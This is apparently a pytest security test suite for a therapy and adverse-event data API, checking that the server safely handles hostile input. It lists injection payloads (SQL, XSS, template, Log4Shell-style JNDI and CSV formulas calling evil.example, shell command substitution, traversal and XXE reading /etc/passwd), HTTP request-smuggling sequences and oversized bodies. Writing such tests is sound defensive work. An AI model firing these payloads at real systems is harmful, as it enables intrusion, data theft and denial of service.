"""What attackers send, one request each: nothing breaks, nothing is believed, and nothing comes back as it was sent."""

import base64
import json
from urllib.parse import quote

import httpx
import pytest

from tests.raw import connect, exchange, status

STRINGS = {
    "SQL: always true": "' OR '1'='1",
    "SQL: another statement": "'; DROP TABLE therapy;--",
    "SQL: union": '") UNION SELECT name, sql FROM sqlite_master--',
    "SQL: sleep": "1' AND (SELECT pg_sleep(20)) IS NOT NULL--",
    "SQL: blob": "' || randomblob(1000000000) || '",
    "SQL: like": "%_%_%_%",
    "SQL: bound name": ":release %(release)s ? $1",
    "FTS: operators": 'a* NOT b OR NEAR(c d, 2) AND "',
    "FTS: column": "{text} : colitis ^a",
    "FTS: tsquery": "a & !b | (c <-> d):*",
    "CSV: formula": '=HYPERLINK("http://evil.example","x")',
    "CSV: command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HTML: script": "<script>alert(1)</script>",
    "HTML: attribute": '"><img src=x onerror=alert(1)>',
    "HTML: mark": "</mark><svg/onload=alert(1)>",
    "JSON: end": '"}],"total":0,"x":{"y":["',
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{7*7!r}",
    "format": "%s%n%x{0.__class__}",
    "log": "${jndi:ldap://evil.example/a}",
    "log: a line": "x\r\nINFO: user=admin logged in",
    "header: a line": "x\r\nX-Injected: 1\r\n\r\n<h1>",
    "header: LF alone": "x\nX-Injected: 1",
    "header: in unicode": "x嘊嘍X-Injected: 1",  # their low bytes are CR and LF
    "link": '>; rel="next", <http://evil.example/>; rel="canonical',
    "shell": "$(sleep 20);`sleep 20`|sleep 20",
    "path: up": "../../../../etc/passwd",
    "path: encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "path: encoded twice": "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "path: Windows": "..\\..\\windows\\win.ini",
    "path: file": "file:///etc/passwd",
    "path: null": "therapies\x00.json",
    "another host": "//evil.example/%2f..",
    "encoded deeply": "%25" * 200 + "41",
    "unicode: forms": "ﬁ Å Å ſ ℀ ﷺ",
    "unicode: right to left": "\u202egnp.exe\u2066\u2069",
    "unicode: invisible": "pembro\u200blizu\u00admab\ufeff",
    "unicode: combining": "Z" + "\u0310" * 80,
    "unicode: case": " İıß" * 20,
    "unicode: last": "\U0010ffff\uffff\ufffe",
    "regex": "(a+)+$" * 10 + "a" * 100 + "!",
    "number": "9" * 250,
    "not a number": "1e999",
    "XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "escape": "\x1b[2J\x1b]0;owned\x07\x08",
    "prototype": "__proto__[x]=1&constructor.prototype",
    "python": "__import__('os').system('id')",
}
PARAMETERS = {
    "/therapies": ("q", "class", "id", "sort", "cursor", "facets", "fields", "release"),
    "/adverse-events": ("event", "trial", "any_percent_from"),
    "/indications": ("q", "approved_from", "status"),
    "/therapies/pembrolizumab/warnings": ("q", "include"),
    "/adverse-events/compare": ("therapies", "severity"),
    "/suggest": ("q", "type"),
    "/search": ("q",),
    "/resolve": ("name",),
}
PATHS = ("/{}", "/therapies/{}", "/therapies/{}/warnings", "/releases/{}", "/assets/{}")
HEADERS = ("X-Request-ID", "Accept", "Accept-Encoding", "If-None-Match", "Origin", "User-Agent", "Referer", "Cookie")


def assert_harmless(answer: httpx.Response, attack: str) -> None:
    """An answer of a kind, in its form, that no browser runs and no header of which is the attacker's."""
    where = (str(answer.request.url), answer.text[:500])
    assert answer.status_code < 500, where
    assert answer.headers["X-Content-Type-Options"] == "nosniff", where
    assert "X-Injected" not in answer.headers, where
    kind = answer.headers.get("Content-Type", "")
    assert "html" not in kind, where
    if answer.status_code >= 400:
        assert kind == "application/problem+json", where
        assert answer.json()["status"] == answer.status_code
        assert answer.json()["detail"], where
    elif kind == "application/json":
        answer.json()
    if "Location" in answer.headers:
        assert answer.headers["Location"].startswith("/"), where
        assert not answer.headers["Location"].startswith(("//", "/\\")), where
    json.loads(answer.headers.get("X-Query", "{}"))  # says what was asked for: as JSON, in ASCII
    told = str([pair for pair in answer.headers.items() if pair[0] not in {"x-query", "access-control-allow-origin"}])
    if len(attack) > 5 and set(attack) & set("<>'\"\n\r\x00\x1b"):
        assert attack not in told, where


@pytest.mark.parametrize("attack", STRINGS.values(), ids=STRINGS.keys())
def test_an_attack_in_a_parameter_is_a_word_like_any_other(client: httpx.Client, attack: str) -> None:
    for path, names in PARAMETERS.items():
        for name in names:
            assert_harmless(client.get(path, params={name: attack}), attack)
    assert_harmless(client.get("/service-info", params={attack: "x"}), attack)
    for format_ in ("csv", "bibtex"):
        assert_harmless(client.get("/targets", params={"q": f"PD-1 {attack}"[:300], "format": format_}), attack)
    for fragment in client.get("/search", params={"q": f"colitis {attack}"[:200]}).json().get("items", []):
        assert "<" not in fragment["fragment"].replace("<mark>", "").replace("</mark>", "")


@pytest.mark.parametrize("attack", STRINGS.values(), ids=STRINGS.keys())
def test_an_attack_in_a_path_a_header_or_a_body_is_one_too(client: httpx.Client, attack: str) -> None:
    for path in PATHS:
        for written in {quote(attack, safe=""), quote(quote(attack, safe=""), safe="")}:
            assert_harmless(client.get(path.format(written)), attack)
    for name in HEADERS:
        value = attack.translate({0: " ", 13: " ", 10: " "}).strip().encode()
        assert_harmless(client.get("/targets?limit=1", headers={name: value}), attack)
    for body in ({"names": [attack]}, {"names": ["x"], "types": [attack]}, {attack: attack}):
        assert_harmless(client.post("/resolve", json=body), attack)
        assert_harmless(client.post("/resolve", json=body, params={"release": attack}), attack)


BYTES = [b"%c0%ae%c0%ae%c0%af", b"%e0%80%af", b"%ed%a0%80", b"%ed%b0%80%ed%a0%80", b"%f4%90%80%80", b"%ff%fe", b"%80"]
BYTES += [b"%00", b"%0d%0aX-Injected:%201", b"%u0041", b"%", b"%zz", b"%%30%30", b"%2525252525252e"]


@pytest.mark.parametrize("given", BYTES)
def test_bytes_that_are_no_text_are_refused_or_found_nowhere(url: str, given: bytes) -> None:
    for target in (
        b"/therapies?q=%s",
        b"/therapies?%s=x",
        b"/therapies/%s",
        b"/%s",
        b"/assets/%s",
        b"/therapies?cursor=%s",
    ):
        request = b"GET " + target.replace(b"%s", given) + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        answer = exchange(url, request)
        assert 200 <= status(answer) < 500, (request, answer)
        assert b"\r\nx-injected" not in answer.lower(), request


OUTSIDE = [b"/assets/../../../config.py", b"/assets/..%2f..%2fapp/config.py", b"/assets/%2e%2e/%2e%2e/pyproject.toml"]
OUTSIDE += [b"/assets//etc/passwd", b"/assets/....//....//etc/passwd", b"/assets/..\\..\\app\\config.py", b"/assets/"]


def test_nothing_outside_the_assets_is_served(url: str) -> None:
    for path in OUTSIDE:
        answer = exchange(url, b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        assert status(answer) in {400, 404}, (path, answer[:300])
        assert b"root:" not in answer
        assert b"import " not in answer


def test_thousands_of_parameters_are_refused(client: httpx.Client) -> None:
    for query in ("a&" * 8_000, "class=car-t&" * 1_300, "class=" + "car-t," * 2_700, "a=1&" * 15_000):
        assert client.get(f"/therapies?{query}").status_code in {414, 422}, query[:20]
    assert client.get("/therapies?" + "&" * 16_000).status_code in {200, 422}  # not one parameter, in 16,001 parts
    for size, statuses in ((20_000, {414}), (1_000_000, {400, 414, 431})):
        assert status(exchange(str(client.base_url), _long(b"/therapies?q=" + b"a" * size))) in statuses
        assert status(exchange(str(client.base_url), _long(b"/" + b"a" * size))) in {404, *statuses}


def _long(target: bytes) -> bytes:
    return b"GET " + target + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def test_huge_and_odd_headers_are_refused(url: str) -> None:
    begun = b"GET /live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    for more in (b"X: " + b"a" * 1_000_000, b"\r\n".join(b"X-%d: a" % number for number in range(100_000))):
        assert status(exchange(url, begun + more + b"\r\n\r\n")) == 431
    for more in (b"a" * 200_000 + b": b", b": b", b"X Y: b", b"X", b"X: a\x00b", b"X: a\x01", b"\x80: a", b" X: a"):
        answer = exchange(url, begun + more + b"\r\n\r\n")
        assert status(answer) in {200, 400, 431}, (more[:20], answer[:200])
        assert b"a\x00b" not in answer


POST = b"POST /resolve HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
BODY = b'{"names":["Keytruda"]}'
HIDDEN = b"GET /live HTTP/1.1\r\nHost: x\r\n\r\n"
SMUGGLED = {
    "length and chunks": POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "chunks and length": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "one length twice": POST + b"Content-Length: 22\r\nContent-Length: 22\r\n\r\n" + BODY + HIDDEN,
    "list of lengths": POST + b"Content-Length: 22, 22\r\n\r\n" + BODY + HIDDEN,
    "signed length": POST + b"Content-Length: +22\r\n\r\n" + BODY + HIDDEN,
    "negative length": POST + b"Content-Length: -1\r\n\r\n" + HIDDEN,
    "hexadecimal length": POST + b"Content-Length: 0x16\r\n\r\n" + BODY + HIDDEN,
    "length beyond numbers": POST + b"Content-Length: 99999999999999999999999\r\n\r\n" + BODY + HIDDEN,
    "space before the colon": POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "unknown coding": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "chunks not last": POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    "folded header": POST + b"Content-Length: 0\r\nX: a\r\n Transfer-Encoding: chunked\r\n\r\n" + HIDDEN,
    "LF alone": b"POST /resolve HTTP/1.1\nHost: x\nContent-Length: 0\n\n" + HIDDEN,
    "CR alone": b"POST /resolve HTTP/1.1\r\nHost: x\rContent-Length: 0\r\r\r\n" + HIDDEN,
    "LF in a header": POST + b"X: a\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "chunk too large": POST + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + HIDDEN,
    "negative chunk": POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + HIDDEN,
    "LF after a chunk": POST + b"Transfer-Encoding: chunked\r\n\r\n0\n\n" + HIDDEN,
    "tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n" + HIDDEN,
    "HTTP/2 by itself": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + HIDDEN,
}


@pytest.mark.parametrize("request_", SMUGGLED.values(), ids=SMUGGLED.keys())
def test_no_request_hides_in_another(url: str, request_: bytes) -> None:
    answer = exchange(url, request_)
    assert status(answer) == 400
    assert answer.count(b"HTTP/1.1 ") == 1
    assert b'"live"' not in answer


def test_another_protocol_is_not_entered(url: str) -> None:
    for protocol in (b"websocket", b"h2c", b"TLS/1.0"):
        asked = b"GET /live HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: %s\r\n\r\n" % protocol
        with connect(url) as connection:
            connection.sendall(asked + HIDDEN)
            assert status(connection.recv(65_536)) == 200


def test_odd_bodies_are_refused(client: httpx.Client) -> None:
    deep = {"names": ["x"], "a": None}
    for _ in range(100):
        deep = {"names": deep}
    bodies = {
        json.dumps(deep): {422},
        "[" * 100_000 + "]" * 100_000: {400, 422},
        '{"names":' + "[" * 400_000: {400, 422},
        json.dumps({"names": ["x"] * 1001}): {422},
        json.dumps({"names": ["x"] * 200_000}): {422},
        json.dumps({"names": ["x" * 201]}): {422},
        '{"names":[' + "1" * 5_000 + "]}": {400, 422},
        '{"names":[1e999999999]}': {400, 422},
        '{"names":[NaN]}': {400, 422},
        '{"names":["\\ud800"]}': {200, 400, 422},
        '{"names":["a\\u0000b"]}': {200, 422},
        '{"names":["x"],"names":[]}': {200, 422},
        '{"names":["x"]}{"names":["y"]}': {400, 422},
        '{"names":["x"],"more":1}': {422},
        "null": {422},
        "": {422},
        "\ufeff{}": {400, 422},
        '{"names":' + '{"a":' * 500 + "1" + "}" * 501: {400, 422},
    }
    for body, statuses in bodies.items():
        answer = client.post("/resolve", content=body.encode(), headers={"Content-Type": "application/json"})
        assert answer.status_code in statuses, (body[:60], answer.status_code, answer.text[:300])
        assert_harmless(answer, "")
        assert len(answer.content) < 200_000
    no_text = b'{"names":["\xff\xfe"]}'
    odd = [("application/json", no_text), ("application/x-www-form-urlencoded", b"names=x"), ("text/xml", b"<names/>")]
    for kind, content in [*odd, ("nonsense", b'{"names":["x"]}')]:
        answer = client.post("/resolve", content=content, headers={"Content-Type": kind})
        assert answer.status_code in {400, 415, 422}, (content, answer.text)
        assert_harmless(answer, "")


def test_a_forged_cursor_is_refused(client: httpx.Client) -> None:
    """A cursor is no secret: whoever has one can write another, and its values go to the database."""
    page = client.get("/therapies?limit=2&sort=first_approval").json()
    given = httpx.URL(page["next"]).params["cursor"]
    fingerprint, place = base64.urlsafe_b64decode(given + "==").decode().split(".")
    places = [
        "",
        "-1",
        "1e3",
        "1.5",
        "x",
        " 3",
        "+3",
        "03",
        "1_0",
        "٣",
        "9" * 200,
        str(10**30),
        f"{place}.{place}",
        str(page["total"]),
    ]
    other = fingerprint[1:] + fingerprint[0]
    forged = [f"{fingerprint}.{content}" for content in places] + [fingerprint, place, f"{other}.{place}", "{}"]
    for content in forged:
        cursor = base64.urlsafe_b64encode(content.encode()).decode().rstrip("=")
        answer = client.get("/therapies", params={"limit": 2, "sort": "first_approval", "cursor": cursor})
        assert answer.status_code == 422, content
        assert answer.json()["errors"][0]["parameter"] == "cursor"


def test_numbers_that_no_database_holds_are_refused(client: httpx.Client) -> None:
    questions = ["/cohorts?patients_to=" + "9" * 30, "/cohorts?patients_from=-1", "/therapies?limit=" + "9" * 4_500]
    questions += ["/adverse-events?any_percent_from=1e400", "/sources?date_from=99999-01-01", "/sources?date_to=0"]
    for question in questions:
        assert client.get(question).status_code == 422, question[:50]


def test_as_many_long_names_as_are_taken_are_answered(client: httpx.Client) -> None:
    names = [f"{number} " + "pembrolizumap nivolumac " * 8 for number in range(1000)]
    answer = client.post("/resolve", json={"names": [name[:200] for name in names]})
    assert answer.status_code == 200
    assert len(answer.json()["items"]) == 1000


def test_a_body_beyond_the_limit_is_refused_in_any_framing(client: httpx.Client, url: str) -> None:
    for content in (b"x" * 1_048_577, (b"y" * 50_000 for _ in range(30))):
        answer = client.post("/resolve", content=content, headers={"Content-Type": "application/json"})
        assert answer.status_code == 413
        assert_harmless(answer, "")
    endless = POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"10000\r\n%s\r\n" % (b"z" * 65_536) * 400
    assert status(exchange(url, endless)) in {0, 413}  # cut off: the answer may be lost with the connection
    tiny = POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"1;%s\r\n[\r\n" % (b"e" * 1_000) * 20_000
    assert status(exchange(url, tiny)) in {0, 400, 413}
    trailers = (
        POST
        + b"Transfer-Encoding: chunked\r\n\r\n16\r\n"
        + BODY
        + b"\r\n0\r\n"
        + b"X: aaaaaaaaaaaaaaaa\r\n" * 1_000_000
    )
    assert status(exchange(url, trailers)) in {0, 200, 400}
    assert client.get("/live").status_code == 200
